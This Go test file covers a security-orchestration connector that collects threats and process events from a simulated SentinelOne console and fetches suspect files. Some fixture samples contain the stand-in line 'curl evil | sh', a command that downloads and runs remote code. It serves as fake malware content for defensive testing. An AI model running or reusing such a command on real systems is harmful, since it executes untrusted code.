package sentineloneconn_test

import (
	"context"
	"errors"
	"io"
	"net/http"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/soarkit/soarkit/connector"
	"github.com/soarkit/soarkit/connector/connectortest"
	"github.com/soarkit/soarkit/connector/sentineloneconn"
	"github.com/soarkit/soarkit/sentinelone"
	"github.com/soarkit/soarkit/sentinelone/sentinelonetest"
)

func threatSource(t testing.TB, w *world, opts sentineloneconn.SourceOptions) *sentineloneconn.Source {
	t.Helper()
	if opts.Scope == nil {
		opts.Scope = w.scope(t)
	}
	s, err := sentineloneconn.NewThreatSource(w.c, opts)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func threatIDs(evs []connector.Evidence) []string {
	var ids []string
	for _, ev := range evs {
		for _, s := range ev.Sightings {
			ids = append(ids, s.ThreatID)
		}
	}
	slices.Sort(ids)
	return ids
}

func sortedIDs(ids ...string) []string { slices.Sort(ids); return ids }

func TestThreatSourceCollectsEveryThreatWithItsSighting(t *testing.T) {
	w := newWorld(t)
	src := threatSource(t, w, sentineloneconn.SourceOptions{})
	b, err := src.Collect(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := threatIDs(b.Evidence), sortedIDs(w.t1.ID, w.t2.ID, w.t3.ID, w.tNA.ID); !slices.Equal(got, want) {
		t.Fatalf("threats %v, want %v", got, want)
	}
	if b.More || len(b.Next) == 0 {
		t.Errorf("batch More=%v Next=%q; want one complete window with a checkpoint", b.More, b.Next)
	}
	var ev connector.Evidence
	for _, e := range b.Evidence {
		if e.Sightings[0].ThreatID == w.t2.ID {
			ev = e
		}
	}
	if ev.Hashes.SHA1 != sha1Hex(w.dropper) || ev.FileName != "invoice.exe" || ev.Size != int64(len(w.dropper)) {
		t.Errorf("evidence %+v", ev)
	}
	sg := ev.Sightings[0]
	want := connector.Sighting{Source: sentineloneconn.DefaultThreatSourceName, ID: w.t2.ID, ThreatID: w.t2.ID, AgentID: w.ws2.ID,
		DeviceName: "WS-2", OS: "windows", AccountID: sentinelonetest.DefaultAccountID, AccountName: sentinelonetest.DefaultAccountName,
		SiteID: w.siteB.ID, SiteName: "EMEA Site-2", FilePath: `C:\Users\bob\invoice.exe`}
	got := sg
	got.Time, got.Attributes = time.Time{}, nil
	if !reflect.DeepEqual(got, want) {
		t.Errorf("sighting\n got %+v\nwant %+v", got, want)
	}
	if sg.Attributes[sentineloneconn.AttrConfidenceLevel] != "suspicious" || sg.Attributes[sentineloneconn.AttrClassification] != "Trojan" {
		t.Errorf("attributes %v", sg.Attributes)
	}
	// The request: the account (all its sites, also new ones), the confidence levels, the window.
	var q []string
	for _, r := range w.fake.Requests() {
		if r.Path == sentinelone.APIPrefix+"/threats" {
			q = append(q, r.RawQuery)
			if r.Query.Get("confidenceLevels") != "malicious,suspicious,n/a" || r.Query.Get("accountIds") != sentinelonetest.DefaultAccountID ||
				r.Query.Has("siteIds") || r.Query.Get("createdAt__gt") == "" || r.Query.Get("limit") != "1000" {
				t.Errorf("GET /threats query %s", r.RawQuery)
			}
		}
	}
	if len(q) != 1 {
		t.Errorf("%d threat list calls, want 1", len(q))
	}
}

func TestThreatSourceFilters(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	mal := threatSource(t, w, sentineloneconn.SourceOptions{ConfidenceLevels: []string{"malicious"}})
	b, err := mal.Collect(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := threatIDs(b.Evidence), sortedIDs(w.t1.ID, w.t3.ID); !slices.Equal(got, want) {
		t.Errorf("malicious only: %v, want %v", got, want)
	}
	site := threatSource(t, w, sentineloneconn.SourceOptions{Scope: w.scope(t, w.siteB.ID)})
	if b, err = site.Collect(ctx, nil); err != nil {
		t.Fatal(err)
	}
	if got, want := threatIDs(b.Evidence), []string{w.t2.ID}; !slices.Equal(got, want) {
		t.Errorf("site %s only: %v, want %v", w.siteB.ID, got, want)
	}
	reqs := w.fake.Requests()
	if last := reqs[len(reqs)-1]; last.Query.Get("siteIds") != w.siteB.ID {
		t.Errorf("configured site not sent: %s", last.RawQuery)
	}
	bad := threatSource(t, w, sentineloneconn.SourceOptions{Scope: w.scope(t, "999999999999999999")})
	if _, err := bad.Collect(ctx, nil); !connector.IsPermanent(err) || !strings.Contains(err.Error(), "999999999999999999") {
		t.Errorf("unknown site: %v, want a permanent error naming it", err)
	}
	sc, _ := sentineloneconn.NewScope(w.c, "111111111111111111", nil)
	if _, err := sc.Resolve(ctx); !connector.IsPermanent(err) {
		t.Errorf("unknown account: %v, want permanent", err)
	}
	if _, err := sentineloneconn.NewThreatSource(w.c, sentineloneconn.SourceOptions{Scope: sc, ConfidenceLevels: []string{"high"}}); err == nil {
		t.Error("an unknown confidence level was accepted")
	}
	if _, err := sentineloneconn.NewThreatSource(w.c, sentineloneconn.SourceOptions{Scope: sc,
		Fetch: sentineloneconn.FetchOptions{Password: "short"}}); err == nil {
		t.Error("a fetch password the console refuses was accepted")
	}
}

func TestThreatSourceFirstAccountAndCheckpoint(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	start := time.Now().UTC().Truncate(time.Millisecond)
	src := threatSource(t, w, sentineloneconn.SourceOptions{Overlap: -1})
	b, err := src.Collect(ctx, nil)
	end := time.Now().UTC()
	if err != nil {
		t.Fatal(err)
	}
	if len(b.Evidence) != 4 {
		t.Fatalf("%d evidence, want 4", len(b.Evidence))
	}
	var acct []string
	var first string
	for _, r := range w.fake.Requests() {
		switch r.Path {
		case sentinelone.APIPrefix + "/accounts":
			acct = append(acct, r.RawQuery)
		case sentinelone.APIPrefix + "/threats":
			first = r.Query.Get("createdAt__gt")
		}
	}
	if len(acct) != 1 || strings.Contains(acct[0], "accountIds") {
		t.Errorf("account resolution %v: want one unfiltered GET /accounts (first account)", acct)
	}
	// The first window starts one look-back (TIME_SPAN, 1 h) before now.
	// The source read its clock between start and end, however long that took.
	if from, err := sentinelone.ParseTime(first); err != nil || from.Before(start.Add(-time.Hour)) || from.After(end.Add(-time.Hour)) {
		t.Errorf("first window starts at %q, want one hour before %v", first, start)
	}
	// Nothing new: the next window is empty.
	b2, err := src.Collect(ctx, b.Next)
	if err != nil || len(b2.Evidence) != 0 {
		t.Fatalf("second window: %d evidence, %v; want none", len(b2.Evidence), err)
	}
	// A new threat lands in the next window only; the first window is not
	// read again.
	time.Sleep(2 * time.Millisecond)
	content := []byte("MZ new")
	later := w.addThreat(t, w.ws1, sha1Hex(content), `C:\new.exe`, "malicious", content)
	b3, err := src.Collect(ctx, b2.Next)
	if err != nil {
		t.Fatal(err)
	}
	if got := threatIDs(b3.Evidence); !slices.Equal(got, []string{later.ID}) {
		t.Errorf("third window %v, want only %s", got, later.ID)
	}
	if _, err := src.Collect(ctx, connector.Checkpoint("garbage")); !connector.IsPermanent(err) {
		t.Errorf("unreadable checkpoint: %v, want permanent", err)
	}
}

func TestThreatSourceErrorClasses(t *testing.T) {
	w := newWorld(t)
	src := threatSource(t, w, sentineloneconn.SourceOptions{})
	ctx := context.Background()
	if _, err := src.Collect(ctx, nil); err != nil { // resolves the scope
		t.Fatal(err)
	}
	w.fake.InjectFault(sentinelonetest.Fault{Path: sentinelone.APIPrefix + "/threats", Status: http.StatusInternalServerError, Times: 10})
	_, err := src.Collect(ctx, nil)
	if err == nil || connector.IsPermanent(err) {
		t.Errorf("5xx: %v, want a transient error", err)
	}
	w.fake.ClearFaults()
	w.fake.InjectFault(sentinelonetest.Fault{Path: sentinelone.APIPrefix + "/threats", Status: http.StatusForbidden, Times: 1})
	if _, err := src.Collect(ctx, nil); !connector.IsPermanent(err) {
		t.Errorf("403: %v, want permanent", err)
	}
	w.fake.ClearFaults()
	bad, err := sentinelone.New(w.fake.URL(), "wrong-token")
	if err != nil {
		t.Fatal(err)
	}
	sc, _ := sentineloneconn.NewScope(bad, "", nil)
	if _, err := sc.Resolve(ctx); !connector.IsPermanent(err) || !errors.Is(err, sentinelone.ErrUnauthorized) {
		t.Errorf("401: %v, want permanent ErrUnauthorized", err)
	} else if strings.Contains(err.Error(), "wrong-token") {
		t.Errorf("the token leaked into the error: %v", err)
	}
}

func readSample(t testing.TB, s connector.Sample) []byte {
	t.Helper()
	b, err := io.ReadAll(s.Body)
	if cerr := s.Body.Close(); cerr != nil {
		t.Error(cerr)
	}
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestFetchThreatFile(t *testing.T) {
	w := newWorld(t)
	src := threatSource(t, w, sentineloneconn.SourceOptions{})
	ctx := context.Background()
	f := finding(w.t1, connector.Unknown)
	s, err := src.Fetch(ctx, f.Evidence)
	if err != nil {
		t.Fatal(err)
	}
	if got := readSample(t, s); string(got) != string(w.dropper) || s.Name != "invoice.exe" || s.Hashes.SHA1 != sha1Hex(w.dropper) {
		t.Errorf("sample %q name %q hashes %+v", got, s.Name, s.Hashes)
	}
	if acts := w.fake.ThreatActions(w.t1.ID); !slices.Equal(acts, []string{"fetch-file"}) {
		t.Errorf("threat actions %v, want one fetch-file", acts)
	}
	// The password the client generated meets the console's rules (the fake
	// refuses others) and is not S1BinaryVault.
	for _, r := range w.fake.Requests() {
		if r.Path == sentinelone.APIPrefix+"/threats/fetch-file" && strings.Contains(string(r.Body), sentinelone.BinaryVaultPassword) {
			t.Errorf("fetch-file sent the default vault password: %s", r.Body)
		}
	}
}

func TestFetchOfflineAgentRetriesLaterAndOtherAgentsServe(t *testing.T) {
	w := newWorld(t)
	src := threatSource(t, w, sentineloneconn.SourceOptions{})
	ctx := context.Background()
	off := finding(w.t3, connector.Unknown)
	_, err := src.Fetch(ctx, off.Evidence)
	if after, ok := connector.RetryAfter(err); !ok || after != sentineloneconn.DefaultOfflineRetry || !errors.Is(err, sentinelone.ErrAgentOffline) {
		t.Fatalf("offline agent: %v (after %v), want RetryLater(%v) wrapping ErrAgentOffline", err, after, sentineloneconn.DefaultOfflineRetry)
	}
	if acts := w.fake.ThreatActions(w.t3.ID); len(acts) != 0 {
		t.Errorf("a fetch was requested from an offline agent: %v", acts)
	}
	// The same file as a threat on an offline agent and on an online one.
	content := []byte("#!/bin/sh\ncurl evil | sh")
	onl := w.addThreat(t, w.ws1, sha1Hex(content), `C:\x.sh`, "malicious", content)
	ev := off.Evidence
	ev.Sightings = append(ev.Sightings, finding(onl, connector.Unknown).Evidence.Sightings[0])
	s, err := src.Fetch(ctx, ev)
	if err != nil {
		t.Fatal(err)
	}
	if got := readSample(t, s); string(got) != string(content) {
		t.Errorf("sample %q", got)
	}
}

func TestFetchFromCloud(t *testing.T) {
	w := newWorld(t)
	src := threatSource(t, w, sentineloneconn.SourceOptions{Fetch: sentineloneconn.FetchOptions{Method: sentineloneconn.FetchFromCloud}})
	ctx := context.Background()
	if !w.fake.SetVaultFile(w.t3.ID, sentinelonetest.File{Content: []byte("#!/bin/sh\ncurl evil | sh")}) {
		t.Fatal("SetVaultFile")
	}
	// The agent is offline, the vault has the file.
	s, err := src.Fetch(ctx, finding(w.t3, connector.Unknown).Evidence)
	if err != nil {
		t.Fatal(err)
	}
	if got := readSample(t, s); string(got) != "#!/bin/sh\ncurl evil | sh" {
		t.Errorf("sample %q", got)
	}
	if acts := w.fake.ThreatActions(w.t3.ID); slices.Contains(acts, "fetch-file") {
		t.Errorf("the cloud method asked the agent: %v", acts)
	}
	// Not in the vault: permanent.
	if _, err := src.Fetch(ctx, finding(w.tNA, connector.Unknown).Evidence); !connector.IsPermanent(err) {
		t.Errorf("file not in the vault: %v, want permanent", err)
	}
}

func TestFetchRefusesAnotherFile(t *testing.T) {
	w := newWorld(t)
	src := threatSource(t, w, sentineloneconn.SourceOptions{})
	ctx := context.Background()
	// The agent's manifest reports another hash.
	content := []byte("MZ real")
	th := w.addThreat(t, w.ws1, sha1Hex(content), `C:\r.exe`, "malicious", nil)
	w.fake.SetThreatFile(th.ID, sentinelonetest.File{Content: []byte("MZ other"), SHA1: sha1Hex([]byte("MZ other"))})
	if _, err := src.Fetch(ctx, finding(th, connector.Unknown).Evidence); !connector.IsPermanent(err) || !errors.Is(err, sentinelone.ErrHashMismatch) {
		t.Errorf("wrong file: %v, want permanent ErrHashMismatch", err)
	}
	// The agent could not collect the file.
	gone := w.addThreat(t, w.ws1, sha1Hex([]byte("gone")), `C:\gone.exe`, "malicious", nil)
	w.fake.SetThreatFile(gone.ID, sentinelonetest.File{Reason: "File not found"})
	if _, err := src.Fetch(ctx, finding(gone, connector.Unknown).Evidence); !connector.IsPermanent(err) || !errors.Is(err, sentinelone.ErrNotCollected) {
		t.Errorf("not collected: %v, want permanent ErrNotCollected", err)
	}
	// Sightings of another source are not this source's to fetch.
	ev := finding(w.t1, connector.Unknown).Evidence
	ev.Sightings[0].Source = "cbc"
	if _, err := src.Fetch(ctx, ev); !errors.Is(err, sentineloneconn.ErrNotHeld) || !connector.IsPermanent(err) {
		t.Errorf("foreign sighting: %v, want permanent ErrNotHeld", err)
	}
}

func TestThreatSourceConformance(t *testing.T) {
	connectortest.TestSource(t, connectortest.SourceHarness{New: func(t *testing.T) connector.Source {
		w := newWorld(t)
		return threatSource(t, w, sentineloneconn.SourceOptions{ConfidenceLevels: []string{"suspicious"}})
	}})
}

// dvWorld seeds Deep Visibility with processes: one image on two agents,
// the dropper (already a threat), and many pages of a common process.
func dvWorld(t testing.TB) (*world, []byte) {
	w := newWorld(t)
	tool := []byte("MZ psexec-like tool")
	path := `C:\Windows\Temp\tool.exe`
	w.fake.AddAgentFile(w.ws1.ID, sentinelonetest.File{Path: path, Content: tool})
	w.fake.AddAgentFile(w.ws2.ID, sentinelonetest.File{Path: path, Content: tool})
	now := time.Now().UTC()
	ev := func(a sentinelone.Agent, sum, path string, ago time.Duration) sentinelone.DVEvent {
		at := sentinelone.NewTime(now.Add(-ago))
		return sentinelone.DVEvent{ObjectType: "process", EventType: "Process Creation", CreatedAt: at, ProcessStartTime: at,
			AgentID: a.ID, AgentName: a.ComputerName, AgentOS: "windows", SiteID: a.SiteID, SiteName: a.SiteName,
			AccountID: a.AccountID, ProcessName: "tool.exe", ProcessImagePath: path, ProcessImageSha1Hash: sum}
	}
	w.fake.AddAgentFile(w.ws1.ID, sentinelonetest.File{Path: `C:\Windows\System32\svchost.exe`, Content: []byte("svchost")})
	var events []sentinelone.DVEvent
	for i := range 1200 { // more than one page of 1000
		events = append(events, ev(w.ws1, sha1Hex([]byte("svchost")), `C:\Windows\System32\svchost.exe`, time.Duration(i)*time.Millisecond+time.Minute))
	}
	events = append(events, ev(w.ws1, sha1Hex(tool), path, 5*time.Minute), ev(w.ws2, sha1Hex(tool), path, 4*time.Minute),
		ev(w.ws1, sha1Hex(tool), path, 3*time.Minute), ev(w.ws1, sha1Hex(w.dropper), `C:\Users\alice\Downloads\invoice.exe`, 2*time.Minute))
	w.fake.AddDVEvents(events...)
	return w, tool
}

func dvSource(t testing.TB, w *world) *sentineloneconn.Source {
	t.Helper()
	s, err := sentineloneconn.NewDVSource(w.c, sentineloneconn.SourceOptions{Scope: w.scope(t), SkipThreatHashes: true})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestDVSourceReadsAllPagesAndSkipsThreatHashes(t *testing.T) {
	w, tool := dvWorld(t)
	src := dvSource(t, w)
	ctx := context.Background()
	b, err := src.Collect(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]connector.Evidence{}
	for _, ev := range b.Evidence {
		got[ev.Hashes.SHA1] = ev
	}
	if _, ok := got[sha1Hex(w.dropper)]; ok {
		t.Error("a SHA1 already collected as a threat was reported again as a process")
	}
	if _, ok := got[sha1Hex([]byte("svchost"))]; !ok {
		t.Error("the process on the second page of events was lost")
	}
	ev, ok := got[sha1Hex(tool)]
	if !ok || len(got) != 2 {
		t.Fatalf("evidence %v", b.Evidence)
	}
	var agents []string
	for _, s := range ev.Sightings {
		agents = append(agents, s.AgentID)
		if s.ThreatID != "" || s.ID != "" || s.FilePath != `C:\Windows\Temp\tool.exe` || s.Attributes[sentineloneconn.AttrProcessName] != "tool.exe" {
			t.Errorf("sighting %+v", s)
		}
	}
	if !slices.Equal(sortedIDs(agents...), sortedIDs(w.ws1.ID, w.ws2.ID)) {
		t.Errorf("sightings on agents %v, want one per agent", agents)
	}
	pages, inits, polls := 0, 0, 0
	for _, r := range w.fake.Requests() {
		switch r.Path {
		case sentinelone.APIPrefix + "/dv/query-status":
			polls++
		case sentinelone.APIPrefix + "/dv/events":
			pages++
		case sentinelone.APIPrefix + "/dv/init-query":
			inits++
			if !strings.Contains(string(r.Body), `ObjectType = \"Process\"`) || !strings.Contains(string(r.Body), `"limit":20000`) {
				t.Errorf("init-query body %s", r.Body)
			}
		}
	}
	if pages < 2 || inits != 1 || polls < 2 {
		t.Errorf("%d event pages, %d queries, %d status polls; want every page of one query read after it finished", pages, inits, polls)
	}

	// A process has no threat: it is fetched from its agent by path.
	s, err := src.Fetch(ctx, ev)
	if err != nil {
		t.Fatal(err)
	}
	if string(readSample(t, s)) != string(tool) {
		t.Error("wrong process image")
	}
	if acts := append(w.fake.AgentActions(w.ws1.ID), w.fake.AgentActions(w.ws2.ID)...); !slices.Equal(acts, []string{"fetch-files"}) {
		t.Errorf("agent actions %v, want one fetch-files", acts)
	}
}

func TestDVSourceAloneKeepsThreatHashes(t *testing.T) {
	// Without the threat source nothing handles the threats' files: Deep
	// Visibility reports them too.
	w, _ := dvWorld(t)
	src, err := sentineloneconn.NewDVSource(w.c, sentineloneconn.SourceOptions{Scope: w.scope(t)})
	if err != nil {
		t.Fatal(err)
	}
	b, err := src.Collect(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, ev := range b.Evidence {
		found = found || ev.Hashes.SHA1 == sha1Hex(w.dropper)
	}
	if len(b.Evidence) != 3 || !found {
		t.Errorf("%d evidence (dropper found %v), want 3 with the dropper", len(b.Evidence), found)
	}
}

func TestDVSourceQueryFailure(t *testing.T) {
	w, _ := dvWorld(t)
	src := dvSource(t, w)
	w.fake.InjectFault(sentinelonetest.Fault{Path: sentinelone.APIPrefix + "/dv/init-query", Status: http.StatusBadRequest,
		Body: `{"errors":[{"code":4000010,"title":"Validation Error","detail":"bad query"}]}`})
	if _, err := src.Collect(context.Background(), nil); !connector.IsPermanent(err) {
		t.Errorf("refused query: %v, want permanent", err)
	}
}

func TestDVSourceConformance(t *testing.T) {
	connectortest.TestSource(t, connectortest.SourceHarness{New: func(t *testing.T) connector.Source {
		w, _ := dvWorld(t)
		return dvSource(t, w)
	}})
}

func TestThreatSourceReadsEveryPage(t *testing.T) {
	fake := sentinelonetest.NewServer(t)
	agent := fake.AddAgent(sentinelone.Agent{ComputerName: "WS-1", IsActive: true})
	const n = 1205
	for i := range n {
		content := []byte{byte(i), byte(i >> 8), 'M', 'Z'}
		ti := sentinelone.ThreatInfo{SHA1: sha1Hex(content), FilePath: `C:\x.exe`}
		if i == 0 {
			ti.SHA256 = strings.Repeat("ab", 32)
			ti.MD5 = strings.Repeat("cd", 16)
		}
		fake.AddThreat(sentinelone.Threat{ThreatInfo: ti, AgentRealtimeInfo: sentinelone.AgentRealtimeInfo{AgentID: agent.ID}})
	}
	c := fake.Client()
	sc, _ := sentineloneconn.NewScope(c, "", nil)
	src, err := sentineloneconn.NewThreatSource(c, sentineloneconn.SourceOptions{Scope: sc})
	if err != nil {
		t.Fatal(err)
	}
	b, err := src.Collect(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(b.Evidence) != n {
		t.Fatalf("%d evidence, want %d", len(b.Evidence), n)
	}
	pages := 0
	for _, r := range fake.Requests() {
		if r.Path == sentinelone.APIPrefix+"/threats" {
			pages++
		}
	}
	if pages != 2 {
		t.Errorf("%d pages, want 2 of 1000", pages)
	}
	// A threat with a SHA256 is keyed by it, with the SHA1 and MD5 kept.
	h := b.Evidence[0].Hashes
	if key, _ := h.Key(); key.Kind != connector.SHA256 || h.SHA1 == "" || h.MD5 != strings.Repeat("cd", 16) {
		t.Errorf("hashes %+v", h)
	}
}

func TestThreatSourceCatchesUpInWindows(t *testing.T) {
	w := newWorld(t)
	now := time.Now().UTC()
	clock := func() time.Time { return now }
	src := threatSource(t, w, sentineloneconn.SourceOptions{LookBack: 3 * time.Hour, MaxWindow: time.Hour, Overlap: -1, Now: clock})
	var cp connector.Checkpoint
	var evs []connector.Evidence
	for i := 0; ; i++ {
		b, err := src.Collect(context.Background(), cp)
		if err != nil {
			t.Fatal(err)
		}
		evs, cp = append(evs, b.Evidence...), b.Next
		if !b.More {
			if i != 2 {
				t.Errorf("caught up after %d windows, want 3 of one hour", i+1)
			}
			break
		}
		if i > 5 {
			t.Fatal("no progress")
		}
	}
	if len(evs) != 4 {
		t.Errorf("%d evidence, want the 4 threats once", len(evs))
	}
	var windows [][2]string
	for _, r := range w.fake.Requests() {
		if r.Path == sentinelone.APIPrefix+"/threats" {
			windows = append(windows, [2]string{r.Query.Get("createdAt__gt"), r.Query.Get("createdAt__lte")})
		}
	}
	for i := 1; i < len(windows); i++ {
		if windows[i][0] != windows[i-1][1] {
			t.Errorf("window %d starts at %s, the previous ended at %s", i, windows[i][0], windows[i-1][1])
		}
	}
}
